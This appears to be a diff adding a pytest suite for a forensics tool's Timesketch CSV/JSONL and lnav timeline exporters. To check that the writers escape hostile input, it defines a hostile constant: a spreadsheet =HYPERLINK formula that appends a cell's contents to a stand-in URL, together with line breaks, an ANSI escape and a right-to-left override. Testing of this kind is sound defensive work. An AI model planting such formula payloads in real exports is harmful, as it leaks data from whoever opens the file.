@@ -1,0 +1,178 @@
+"""The timeline in the formats of other tools: the fields they demand, and nothing that evidence could make of them."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import shutil
+import subprocess
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import polars as pl
+import pytest
+
+from forensics import audit, load_evidence
+from forensics.correlator.timeline import timeline
+from forensics.model.finding import Report
+from forensics.writers.lnav import lnav_format, write_lnav
+from forensics.writers.timesketch import FIELDS, write_timesketch_csv, write_timesketch_jsonl
+from tests.support.command import forensics
+
+SAMPLES = Path(__file__).parent.parent.parent / "samples"
+HOSTILE = '=HYPERLINK("https://example.org?"&A1)\r\n,"x",\x1b[31m\u202e'
+
+
+def told(sample: str = "every-verdict") -> tuple[Report, pl.DataFrame]:
+    evidence = load_evidence([str(SAMPLES / sample)])
+    report = audit(evidence)
+    return report, timeline(evidence, report)
+
+
+def hostile() -> tuple[Report, pl.DataFrame]:
+    report, facts = told()
+    return report, facts.with_columns(
+        pl.lit(HOSTILE).alias(name) for name in ("text", "job_name", "job_id", "run_id", "operation", "status", "event")
+    )
+
+
+def events_of(report: Report, facts: pl.DataFrame) -> list[dict[str, Any]]:
+    return [json.loads(line) for line in write_timesketch_jsonl(report, facts).splitlines()]
+
+
+def cells_of(report: Report, facts: pl.DataFrame) -> list[dict[str, str]]:
+    return list(csv.DictReader(io.StringIO(write_timesketch_csv(report, facts), newline=""), strict=True))
+
+
+def test_timesketch_gets_its_mandatory_fields() -> None:
+    report, facts = told()
+    events = events_of(report, facts)
+    assert len(events) == facts.height
+    for event in events:
+        assert all(isinstance(event[name], str) and event[name] for name in ("message", "datetime", "timestamp_desc"))
+        at = datetime.strptime(event["datetime"], "%Y-%m-%dT%H:%M:%S.%f%z")
+        assert event["datetime"].endswith("+00:00")
+        assert datetime(1970, 1, 1, tzinfo=UTC) + timedelta(microseconds=event["timestamp"]) == at
+        assert event["data_type"].startswith("openclaw:")
+        assert list(event) == list(FIELDS)
+        assert all(isinstance(tag, str) for tag in event["tag"])
+
+
+def test_timesketch_gets_the_verdict_with_its_place() -> None:
+    report, facts = told("real-lost-write")
+    judged = [event for event in events_of(report, facts) if event["timestamp_desc"] == "Task Judged"]
+    assert [(event["verdict"], event["confidence"], event["tag"][0]) for event in judged] == [
+        (finding.verdict, finding.confidence, finding.verdict) for finding in sorted(report.findings, key=lost_at)
+    ]
+    assert {event["source_table"] for event in judged} == {"task_runs"}
+    assert all(event["source_file"].endswith("runs.sqlite") and event["source_line"] for event in judged)
+
+
+def lost_at(finding: Any) -> Any:
+    return finding.lost_at
+
+
+@pytest.mark.parametrize("source", [told, hostile])
+def test_csv_says_what_json_lines_say(source: Any) -> None:
+    report, facts = source()
+    events, cells = events_of(report, facts), cells_of(report, facts)
+    for event, cell in zip(events, cells, strict=True):
+        for name in FIELDS:
+            value = event[name]
+            wanted = json.dumps(value) if name == "tag" else "" if value is None else str(value)
+            assert cell[name].removeprefix("'") == wanted
+
+
+def test_csv_keeps_to_its_rules() -> None:
+    text = write_timesketch_csv(*hostile())
+    lines = text.split("\r\n")
+    assert lines[0] == ",".join(FIELDS)
+    assert lines[-1] == ""
+    assert "\n" not in "".join(lines)
+    assert "\r" not in "".join(lines)
+
+
+def test_no_cell_is_a_formula() -> None:
+    report, facts = hostile()
+    values = [value for cell in cells_of(report, facts) for value in cell.values()]
+    assert any(value.startswith("'=HYPERLINK") for value in values)
+    assert [value for value in values if value.lstrip()[:1] in {"=", "+", "-", "@"}] == []
+
+
+@pytest.mark.parametrize("writer", [write_timesketch_jsonl, write_lnav])
+def test_evidence_breaks_no_line_and_hides_nothing(writer: Any) -> None:
+    report, facts = hostile()
+    lines = writer(report, facts).splitlines()
+    assert len(lines) == facts.height
+    for line in lines:
+        assert not {"\x1b", "\u202e", "\n", "\r"} & {sign for value in json.loads(line).values() for sign in str(value)}
+
+
+def test_a_fact_without_time_is_left_out_of_formats_that_need_one() -> None:
+    report, facts = told("real-lost-write")
+    untimed = facts.with_columns(pl.when(pl.col("kind") != "verdict").then("at").alias("at"))
+    verdicts = facts.filter(kind="verdict").height
+    assert verdicts > 0
+    kept = facts.height - verdicts
+    assert [len(write(report, untimed).splitlines()) for write in (write_timesketch_jsonl, write_lnav)] == [kept, kept]
+
+
+@pytest.mark.parametrize("form", ["text", "json", "timesketch-jsonl", "timesketch-csv", "lnav"])
+def test_the_same_input_gives_the_same_bytes(form: str, tmp_path: Path) -> None:
+    parts = [SAMPLES / "every-verdict" / part for part in ("state", "logs", "tasks-list.json")]
+    first, second = tmp_path / "first", tmp_path / "second"
+    for output, paths in ((first, parts), (second, parts[::-1])):
+        result = forensics("timeline", *paths, "-f", form, "-o", output)
+        assert (result.returncode, result.stderr) == (0, "")
+    assert first.read_bytes() == second.read_bytes()
+
+
+def test_the_format_of_lnav_names_every_field_of_its_log() -> None:
+    fields = {name for line in write_lnav(*told()).splitlines() for name in json.loads(line)}
+    known = json.loads(lnav_format())["forensics_log"]
+    assert fields - {known["timestamp-field"]} <= set(known["value"])
+    assert {known[name] for name in ("timestamp-field", "level-field", "body-field", "opid-field")} <= fields
+
+
+def lnav(folder: Path, *arguments: str | Path) -> subprocess.CompletedProcess[str]:
+    home = folder / "home"
+    home.mkdir(exist_ok=True)
+    env = dict(os.environ) | {"HOME": str(home), "XDG_CONFIG_HOME": str(home), "TERM": "dumb"}
+    command = ["lnav", "-I", str(folder / "config"), *map(str, arguments)]
+    return subprocess.run(command, capture_output=True, text=True, check=False, env=env, stdin=subprocess.DEVNULL)
+
+
+@pytest.fixture
+def opened(tmp_path: Path) -> Path:
+    """Give a folder with the log and, in a configuration of its own, the format as the command writes them."""
+    if shutil.which("lnav") is None:
+        pytest.skip("lnav is not installed")
+    formats = tmp_path / "config" / "formats" / "installed"
+    formats.mkdir(parents=True)
+    result = forensics(
+        *("timeline", SAMPLES / "every-verdict", "-f", "lnav", "-o", tmp_path / "incident.log"),
+        *("--lnav-format", formats / "forensics_log.json"),
+    )
+    assert (result.returncode, result.stderr) == (0, "")
+    return tmp_path
+
+
+def test_lnav_takes_the_format(opened: Path) -> None:
+    checked = lnav(opened, "-C")
+    assert (checked.returncode, checked.stdout) == (0, "")
+
+
+def test_lnav_reads_every_line_with_its_time_level_and_operation(opened: Path) -> None:
+    query = ";select log_time, log_level, opid, log_body, verdict from forensics_log"
+    shown = lnav(opened, "-n", "-N", "-q", "-c", query, "-c", ":write-jsonlines-to -", opened / "incident.log")
+    rows = [json.loads(line) for line in shown.stdout.splitlines()]
+    written = [json.loads(line) for line in (opened / "incident.log").read_text("utf-8").splitlines()]
+    assert len(rows) == len(written) > 0
+    for row, entry in zip(rows, written, strict=True):
+        assert row["log_time"] == entry["timestamp"][:23].replace("T", " ")
+        assert row["log_level"] == entry["level"]
+        assert (row["opid"], row["verdict"]) == (entry.get("opid"), entry.get("verdict"))
+        assert row["log_body"] == entry["body"]
